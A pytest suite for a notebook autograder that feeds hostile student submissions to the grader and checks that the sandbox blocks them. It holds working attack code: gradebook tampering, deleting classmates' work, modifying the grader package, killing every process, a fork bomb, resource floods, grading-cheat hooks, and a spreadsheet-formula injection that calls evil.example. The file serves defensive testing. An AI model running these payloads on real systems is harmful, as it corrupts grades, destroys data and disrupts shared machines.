"""Hostile submissions, graded for real: each attack is blocked, and where cheap it is shown to work
without the sandbox (so these tests can fail).

One class of the fixture course is graded once (session fixture): a victim with the full solution, and
one student per attack. The operating-system attacks (read or write what is not theirs, change the
code everyone is graded with, outlive or stop the grader, use resources without limit, reach the
network) are answered by the sandbox; the interpreter attacks (rebind ``check``, IPython hooks and
input transformers, forged answer records, patched builtins) by the judge outside the kernel. A
second, unsandboxed class runs the harmless read-only probes and shows they succeed there.
"""

from __future__ import annotations

import copy
import socket
import sys
import textwrap
import threading
from pathlib import Path

import nbformat
import psutil
import pytest

import kdcourse
from kdcourse.grading.autograde import autograde
from kdcourse.grading.course import Submission
from kdcourse.grading.release import release
from kdcourse.grading.scores import cell_messages, read_scores
from kdcourse.grading.simulation.submissions import blank_notebook, notebook_files, solution_notebook, submit_files
from kdcourse.notebooks import cell_output_text, nbgrader_meta, read_notebook

from fixtures.grading_helpers import AID, TEST_TIMEOUTS, fixture_course, tree_digest

pytestmark = [pytest.mark.kernel, pytest.mark.timeout(900)]

FULL, CHOICE_ONLY = 5.0, 2.0
TOKEN = "kdcourse-attack-daemon-7f3a"
PACKAGE = Path(kdcourse.__file__).resolve().parent


class _Listener:
    """A TCP listener on the host's 127.0.0.1 that records whether anyone connected."""

    def __init__(self):
        self.server = socket.socket()
        self.server.bind(("127.0.0.1", 0))
        self.server.listen(8)
        self.server.settimeout(0.5)
        self.port = self.server.getsockname()[1]
        self.received: list[bytes] = []
        self.stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop:
            try:
                conn, _ = self.server.accept()
            except OSError:
                continue
            self.received.append(conn.recv(100) or b"(connected)")
            conn.close()

    def close(self):
        self.stop = True
        self.thread.join(timeout=5)
        self.server.close()


def _sources(folder: Path) -> dict[str, bytes]:
    """The package's Python sources (compiled caches may come and go while it is imported)."""
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*.py"))}


def _first_code_solution(nb):
    return next(c for c in nb.cells if c.cell_type == "code" and nbgrader_meta(c).get("solution"))


def _with_code(base, code: str):
    nb = copy.deepcopy(base)
    cell = _first_code_solution(nb)
    cell.source = textwrap.dedent(code).strip("\n") + "\n" + cell.source
    return nb


def _paths(course, listener) -> dict:
    return {"ROOT": str(course.root), "GB": str(course.db_path),
            "VICTIM": str(course.folder("submitted", Submission(AID, "victim")) / f"{AID}.ipynb"),
            "STAGED": str(course.root / "staged" / "zz_later" / AID / f"{AID}.ipynb"),
            "SOURCE": str(course.source_notebook(AID)), "PKG": str(PACKAGE),
            "KSPEC": str(Path(sys.prefix) / "share" / "jupyter" / "kernels"),
            "STARTUP": str(Path.home() / ".ipython" / "profile_default" / "startup"),
            "PORT": str(listener.port), "TOKEN": TOKEN}


#: Read-only probes: harmless anywhere, so they also run without the sandbox to show they work there.
PROBES = {
    "read_source": """
        import os
        for _p in ["{SOURCE}"] + [os.path.join(*[".."] * _n, "notebooks") for _n in range(1, 8)]:
            try:
                if os.path.isfile(_p):
                    open(_p).read(); print("PWNED read_source", _p)
                elif os.path.isdir(_p):
                    print("PWNED read_source", os.listdir(_p))
            except OSError:
                pass
    """,
    "read_gradebook": """
        try:
            open("{GB}", "rb").read(16); print("PWNED read_gradebook")
        except OSError:
            pass
    """,
    "read_classmate": """
        try:
            open("{VICTIM}").read(); print("PWNED read_classmate")
        except OSError:
            pass
    """,
    "network": """
        import socket
        try:
            socket.create_connection(("127.0.0.1", {PORT}), timeout=3).sendall(b"stolen"); print("PWNED network")
        except OSError:
            pass
    """,
    "see_grader": """
        import os
        for _pid in [p for p in os.listdir("/proc") if p.isdigit()]:
            try:
                _cmd = open(f"/proc/{{_pid}}/cmdline", "rb").read()
            except OSError:
                continue
            if b"pytest" in _cmd:
                print("PWNED see_grader", _pid)
                break
    """,
    "package_writable": """
        import os
        if os.access("{PKG}/answers/checker.py", os.W_OK):
            print("PWNED package_writable")
    """,
}

#: Damaging attacks, tried for real under the sandbox only: ``(code, base, expected score, flag words)``.
ATTACKS = {
    "write_gradebook": ("""
        import sqlite3
        try:
            _db = sqlite3.connect("file:{GB}?mode=rw", uri=True, timeout=1)
            _db.execute("UPDATE grade SET auto_score = 0")
            _db.execute("UPDATE source_cell SET source = 'pass'"); _db.commit(); print("PWNED write_gradebook")
        except Exception:
            pass
    """, "solution", FULL, None),
    "lock_gradebook": ("""
        import sqlite3, time
        try:
            _db = sqlite3.connect("file:{GB}?mode=rw", uri=True, timeout=1, isolation_level=None)
            _db.execute("BEGIN EXCLUSIVE"); print("PWNED lock_gradebook"); time.sleep(5)
        except Exception:
            pass
    """, "solution", FULL, None),
    "delete_classmate": ("""
        import os
        for _p in ("{VICTIM}", "{STAGED}"):
            try:
                os.remove(_p); print("PWNED delete_classmate", _p)
            except OSError:
                pass
        try:
            open("{SOURCE}", "a").write(" "); print("PWNED edit_source")
        except OSError:
            pass
    """, "solution", FULL, None),
    "edit_package": ("""
        import glob
        for _p in glob.glob("{PKG}/**/*.py", recursive=True):
            try:
                open(_p, "a").write("\\nGRADE = 'full'\\n"); print("PWNED edit_package", _p)
            except OSError:
                pass
    """, "solution", FULL, None),
    "startup_files": ("""
        import os
        for _folder, _name, _text in (("{STARTUP}", "00-evil.py", "print('evil')"),
                                      ("{KSPEC}/python3", "kernel.json", "{{}}")):
            try:
                os.makedirs(_folder, exist_ok=True)
                open(os.path.join(_folder, _name), "w").write(_text)
            except OSError:
                pass
    """, "solution", FULL, None),
    "signal_everyone": ("""
        import os, signal
        for _pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
            if _pid not in (os.getpid(), 1):
                for _sig in (signal.SIGSTOP, signal.SIGKILL):
                    try:
                        os.kill(_pid, _sig)
                    except OSError:
                        pass
    """, "solution", FULL, None),
    "daemon": ("""
        import os, sys
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(120)", "{TOKEN}"])
            os._exit(0)
    """, "solution", FULL, None),
    "memory_hog": ("""
        import numpy as _np
        _hog = _np.ones(8 * 2**30 // 8)
    """, "solution", CHOICE_ONLY, "memory"),
    "fork_bomb": ("""
        import os, time
        try:
            for _ in range(400):
                if os.fork() == 0:
                    time.sleep(20)
                    os._exit(0)
        except OSError:
            pass
    """, "solution", FULL, "processes"),
    "disk_fill": ("""
        with open("/tmp/fill", "wb") as _f:
            for _ in range(200):
                _f.write(b"0" * 2**20)
    """, "solution", CHOICE_ONLY, "disk"),
    "output_flood": ("""
        for _ in range(6000):
            print("x" * 1000)
    """, "solution", FULL, "output"),
    "display_update_flood": ("""
        _handle = display({{"text/plain": "x"}}, raw=True, display_id=True)
        _handle.update({{"text/plain": "B" * 6 * 2**20}}, raw=True)
    """, "solution", FULL, "output"),
    "widget_flood": ("""
        from comm import create_comm
        for _ in range(3):
            create_comm(target_name="jupyter.widget", data={{"state": {{"value": "B" * 3 * 2**20}}, "buffer_paths": []}})
    """, "solution", FULL, "output"),
    "cpu_hog": ("""
        while True:
            try:
                while True:
                    pass
            except KeyboardInterrupt:
                pass
    """, "solution", 0.0, "CPU time"),
    # the interpreter's attacks: the verdict is reached outside the kernel
    "rebind_check": ("""
        check = lambda *args, **kwargs: None
    """, "blank", 0.0, "rebinds check"),
    "patch_checker": ("""
        import kdcourse.answers.checker as _c
        _c.Checker.__call__ = lambda self, *args, **kwargs: None
    """, "blank", 0.0, "grading machinery"),
    "input_transformer": ("""
        get_ipython().input_transformers_post.append(
            lambda lines: ["pass\\n"] if lines and lines[0].startswith("check(") else lines)
    """, "blank", 0.0, "input transformers"),
    "custom_exc": ("""
        def _swallow(shell, etype, value, tb, tb_offset=None):
            return None
        get_ipython().set_custom_exc((Exception,), _swallow)
    """, "blank", 0.0, "exception handler"),
    "hooks": ("""
        from IPython.display import clear_output
        def _after(result):
            clear_output()
            result.error_in_exec = None
        def _before(info):
            get_ipython().displayhook(5)
            print(info.raw_cell)
        get_ipython().events.register("post_run_cell", _after)
        get_ipython().events.register("pre_run_cell", _before)
    """, "blank", 0.0, "get_ipython"),
    "patch_builtins": ("""
        import builtins, math
        math.isnan = lambda x: False
        math.isclose = lambda *args, **kwargs: True
        builtins.sum = lambda *args, **kwargs: 0.006577118099991286
    """, "wrong", CHOICE_ONLY, "grading machinery"),
    "forged_record": ("""
        from IPython.display import display
        def _forge(info):
            if info.raw_cell.startswith('check("test_kl_divergence"'):
                fake = {{"returned": {{"t": "float", "v": 0.006577118099991286}}}}
                display({{"application/vnd.kdcourse.answers+json": {{"format": 1, "assignment": "f01_fixture",
                         "item": "test_kl_divergence",
                         "answers": {{"kl_divergence": {{"probe": "call", "results": [fake, fake, fake]}}}}}},
                         "text/plain": "forged"}}, raw=True)
        get_ipython().events.register("pre_run_cell", _forge)
    """, "blank", 0.0, "get_ipython"),
}


def _submit_class(course, listener, with_attacks: bool) -> dict:
    """The victim, every probe (and, sandboxed, every attack); returns student -> expected score."""
    solution, blank = solution_notebook(course, AID), blank_notebook(course, AID)
    wrong = copy.deepcopy(solution)
    _first_code_solution(wrong).source = ("def kl_divergence(p, q):\n    p = np.asarray(p, dtype=float)\n"
                                          "    q = np.asarray(q, dtype=float)\n"
                                          "    return float(np.sum(q * np.log(q / p)))\n")
    bases = {"solution": solution, "blank": blank, "wrong": wrong}
    paths = _paths(course, listener)
    expected = {"victim": (FULL, None)}
    submit_files(course, Submission(AID, "victim"), notebook_files(solution, AID))
    for name, code in PROBES.items():
        submit_files(course, Submission(AID, name), notebook_files(_with_code(solution, code.format(**paths)), AID))
        expected[name] = (FULL, None)
    if with_attacks:
        for name, (code, base, score, flag) in ATTACKS.items():
            nb = _with_code(bases[base], code.format(**paths))
            submit_files(course, Submission(AID, name), notebook_files(nb, AID))
            expected[name] = (score, flag)
        submit_files(course, Submission(AID, "zz_later"), notebook_files(solution, AID))
        expected["zz_later"] = (FULL, None)
        # a module beside the notebook that would shadow the one the locked setup cell imports
        submit_files(course, Submission(AID, "shadow_module"),
                     {**notebook_files(solution, AID), "numpy.py": b"raise ImportError('shadowed numpy')\n"})
        expected["shadow_module"] = (FULL, None)
        # a cell whose grade_id nbgrader's log quotes: text meant to become a spreadsheet formula and to
        # clear the instructor's terminal
        hostile = copy.deepcopy(solution)
        hostile.cells.append(nbformat.v4.new_code_cell("pass", metadata={"nbgrader": {
            "grade": True, "solution": False, "locked": False, "task": False, "points": 1, "schema_version": 3,
            "grade_id": 'SubmissionTimeout: =HYPERLINK("http://evil.example/?"&B3)\x1b[2J\n'}}))
        submit_files(course, Submission(AID, "hostile_grade_id"), notebook_files(hostile, AID))
    return expected


def _graded(tmp, sandboxed: bool):
    course = fixture_course(tmp)
    release(course, log=lambda *_: None)
    listener = _Listener()
    try:
        expected = _submit_class(course, listener, with_attacks=sandboxed)
        before = {"submitted": tree_digest(course.root / "submitted"), "package": _sources(PACKAGE)}
        statuses = autograde(course, jobs=2, timeouts=TEST_TIMEOUTS, progress=False, log=lambda *_: None,
                             unsafe_no_sandbox=not sandboxed)
    finally:
        listener.close()
    scores = {row.student: row.auto_score for row in read_scores(course)}
    outputs = {}
    for status in statuses:
        path = course.folder("autograded", status.submission) / f"{AID}.ipynb"
        outputs[status.student] = ("\n".join(cell_output_text(c) for c in read_notebook(path).cells
                                             if c.cell_type == "code") if path.is_file() else "")
    return {"course": course, "expected": expected, "before": before, "scores": scores, "outputs": outputs,
            "status": {s.student: s for s in statuses}, "listener": listener}


@pytest.fixture(scope="session")
def sandboxed(tmp_path_factory):
    return _graded(tmp_path_factory.mktemp("attacked"), sandboxed=True)


@pytest.fixture(scope="session")
def unsandboxed(tmp_path_factory):
    return _graded(tmp_path_factory.mktemp("unsandboxed"), sandboxed=False)


@pytest.mark.parametrize("probe", sorted(PROBES))
def test_probe_worked_without_the_sandbox(unsandboxed, probe):
    assert f"PWNED {probe}" in unsandboxed["outputs"][probe], unsandboxed["outputs"][probe][-2000:]
    assert "WITHOUT the sandbox" in " ".join(unsandboxed["status"][probe].reasons)


@pytest.mark.parametrize("student", sorted(PROBES) + sorted(ATTACKS) + ["shadow_module"])
def test_attack_is_blocked_and_scored_as_the_answers_deserve(sandboxed, student):
    assert "PWNED" not in sandboxed["outputs"][student], sandboxed["outputs"][student][-2000:]
    score, flag = sandboxed["expected"][student]
    assert sandboxed["scores"][student] == score, sandboxed["status"][student]
    status = sandboxed["status"][student]
    if flag is None:
        assert status.status == "graded", status.reasons
    else:
        assert status.status == "flagged" and flag in " ".join(status.reasons), status.reasons


def test_nothing_of_the_course_changed(sandboxed):
    course = sandboxed["course"]
    assert tree_digest(course.root / "submitted") == sandboxed["before"]["submitted"]
    assert _sources(PACKAGE) == sandboxed["before"]["package"]
    assert not [p for p in PACKAGE.rglob("*.py") if "GRADE = 'full'" in p.read_text(encoding="utf-8")]
    assert not (Path.home() / ".ipython" / "profile_default" / "startup" / "00-evil.py").exists()
    assert not (Path(sys.prefix) / "share" / "jupyter" / "kernels" / "python3" / "kernel.json").exists() or \
        "{}" != (Path(sys.prefix) / "share" / "jupyter" / "kernels" / "python3" / "kernel.json").read_text()


def test_classmates_keep_their_grades(sandboxed):
    assert sandboxed["scores"]["victim"] == FULL
    assert sandboxed["scores"]["zz_later"] == FULL
    assert "checks passed" in cell_messages(sandboxed["course"], Submission(AID, "victim"))["test_kl_divergence"]


def test_no_process_outlives_the_grading(sandboxed):
    for process in psutil.process_iter(["cmdline"]):
        assert TOKEN not in " ".join(process.info["cmdline"] or []), process


def test_the_listener_received_nothing(sandboxed):
    assert sandboxed["listener"].received == []


def test_unsandboxed_probe_reached_the_listener(unsandboxed):
    assert unsandboxed["listener"].received, "the unsandboxed network probe should have connected"


def test_text_a_student_wrote_never_becomes_a_reason(sandboxed):
    from kdcourse.grading.export import export

    status = sandboxed["status"]["hostile_grade_id"]
    words = " ".join(status.reasons + status.notes)
    assert "HYPERLINK" not in words and "\x1b" not in words and "evil" not in words
    csv_path, _ = export(sandboxed["course"], log=lambda *_: None)
    text = csv_path.read_text(encoding="utf-8")
    assert ",=" not in text and "\x1b" not in text
